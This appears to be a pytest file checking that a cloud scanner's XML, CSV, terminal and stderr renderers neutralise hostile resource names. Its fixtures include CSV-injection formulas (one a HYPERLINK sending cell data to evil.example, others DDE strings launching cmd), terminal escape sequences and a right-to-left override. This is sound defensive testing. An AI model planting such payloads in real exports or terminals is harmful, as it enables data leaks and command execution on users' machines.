"""Hostile names in every renderer: control characters (invalid XML), spreadsheet formulas
(CSV injection) and terminal escape sequences / rich markup come out inert."""

from __future__ import annotations

import csv
import io
from xml.etree import ElementTree as ET

import pytest

from policies.registry import load_policies
from scanner.config import load_config
from scanner.engine import evaluate
from scanner.inventory import Inventory
from scanner.model import Resource
from scanner.outputs import render

HOSTILE_NAMES = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "bucket\x1b]0;pwned\x07\x1b[2J\x1b[31mred",
    "nul\x00byte\x0bvt\x0cff\x1fus",
    "c1\x9b31mcsi",
    "[bold red]markup[/]",
    "rtl\u202eevil",
]


@pytest.fixture(scope="module")
def result():
    inv = Inventory()
    for i, name in enumerate(HOSTILE_NAMES):
        r = Resource("aws", "111111111111", "ap-east-2", "storage.object", "AWS::S3::Bucket",
                     f"arn:aws:s3:::{name}-{i}", name, {"encryption": {"type": "none"}, "location": "ap-northeast-1"})
        inv.resources[r.id] = r
    return evaluate(inv, load_policies(), load_config(), None, source="hostile")


def rendered(result, name: str) -> str:
    buf = io.StringIO()
    render(result, name, buf)
    return buf.getvalue()


def test_the_hostile_resources_reach_the_findings(result):
    names = {f.resource.name for f in result.findings}
    assert names == set(HOSTILE_NAMES)


def test_junit_is_well_formed_xml_and_keeps_the_names_visible(result):
    text = rendered(result, "junit")
    root = ET.fromstring(text)  # raised "not well-formed (invalid token)" before
    names = {c.get("name") for c in root.iter("testcase")}
    assert "arn:aws:s3:::bucket\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred-6" in names
    assert "arn:aws:s3:::nul\\x00byte\\x0bvt\\x0cff\\x1fus-7" in names
    assert not any(ch in text for ch in "\x00\x1b\x07\x0b\x0c\x1f")


@pytest.mark.parametrize("render_csv", ["findings", "vendor"])
def test_csv_cells_never_start_a_formula(result, render_csv, tmp_path):
    if render_csv == "findings":
        rows = list(csv.reader(io.StringIO(rendered(result, "csv"), newline="")))[1:]
        cells = [c for row in rows for c in row]
        assert {c for c in cells if c.lstrip("'") in HOSTILE_NAMES} >= {"'" + HOSTILE_NAMES[0]}
    else:
        cells = _vendor_csv_cells(tmp_path)
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous


def _vendor_csv_cells(tmp_path) -> list[str]:
    """`vendor export --format csv` of a register whose provider and service names are formulas."""
    from scanner.cli import run

    reg = tmp_path / "vendors.yaml"
    reg.write_text(
        "format: cloudgov.vendors\nversion: 1\nproviders:\n"
        "  - id: evil\n    legal_name: '=HYPERLINK(\"http://evil.example\",\"x\")'\n"
        "    services:\n      - id: svc\n        name: '@SUM(1+1)'\n        service_model: SaaS\n",
        encoding="utf-8",
    )
    db = f"sqlite:///{tmp_path / 'v.db'}"
    out = tmp_path / "v.csv"
    assert run(["vendor", "import", str(reg), "--db", db, "--actor", "t", "--today", "2026-01-01"]) == 0
    assert run(["vendor", "export", "--format", "csv", "--output", str(out), "--db", db, "--today", "2026-01-01"]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells), rows
    return cells


def test_terminal_table_obeys_no_escape_sequence_or_markup(result):
    text = rendered(result, "table")
    assert "\x1b]0;pwned" not in text and "\x1b[2J" not in text and "\x9b" not in text and "\u202e" not in text
    assert "\\x1b]0;pwned" in text
    assert "[bold red]markup[/]" in text  # shown literally, not styled away


def test_error_sentence_on_stderr_is_terminal_safe(tmp_path, capsys):
    from scanner.cli import run

    evil = tmp_path / "evil\x1b[2Jname.yaml"
    assert run(["scan", "snapshot", "samples/estate/", "--waivers", str(evil)]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\\x1b[2J" in err


SOFFICE = __import__("shutil").which("soffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (scripts/setup-system installs libreoffice-calc-nogui)")
def test_a_spreadsheet_opens_the_csv_as_text_with_the_chinese_intact(result, tmp_path):
    """A real spreadsheet engine opens the findings CSV: no hostile name is evaluated as a
    formula (each shows as the text it was), the Traditional Chinese columns arrive intact.
    LibreOffice, not Excel (which this machine cannot run): LibreOffice ignores the UTF-8 BOM
    that Excel uses to detect the encoding, so the test names UTF-8 (filter token 76)."""
    import html
    import re
    import subprocess

    src = tmp_path / "findings.csv"
    src.write_bytes(rendered(result, "csv").encode("utf-8"))
    out = tmp_path / "out"
    subprocess.run([SOFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
                    "--infilter=CSV:44,34,76", "--convert-to", "html", "--outdir", str(out), str(src)],
                   check=True, capture_output=True, timeout=300)
    page = (out / "findings.html").read_text(encoding="utf-8", errors="replace")
    rows = [[html.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
            for row in re.findall(r"<tr[^>]*>(.*?)</tr>", page, re.S)]
    header, body = rows[0], [r for r in rows[1:] if r]
    names = [r[header.index("resource_name")] for r in body]
    assert any("HYPERLINK" in n for n in names) and any("SUM(1+1)" in n for n in names)
    # evaluated, "-2+3" would read 1 and "=1+1" 2; "click" would be all that shows of the link
    assert "1" not in names and "2" not in names and "click" not in names
    for formula in ("HYPERLINK(", "cmd|", "-2+3", "=1+1"):
        assert any(formula in n for n in names), formula
    assert len(names) >= len(HOSTILE_NAMES), names
    zh = [r[header.index("title_zh")] for r in body]
    assert all(t and not any(ch in t for ch in "ï»¿Ã") for t in zh)
    assert any("加密" in t or "金鑰" in t or "所在地" in t or "位置" in t for t in zh), zh[:3]
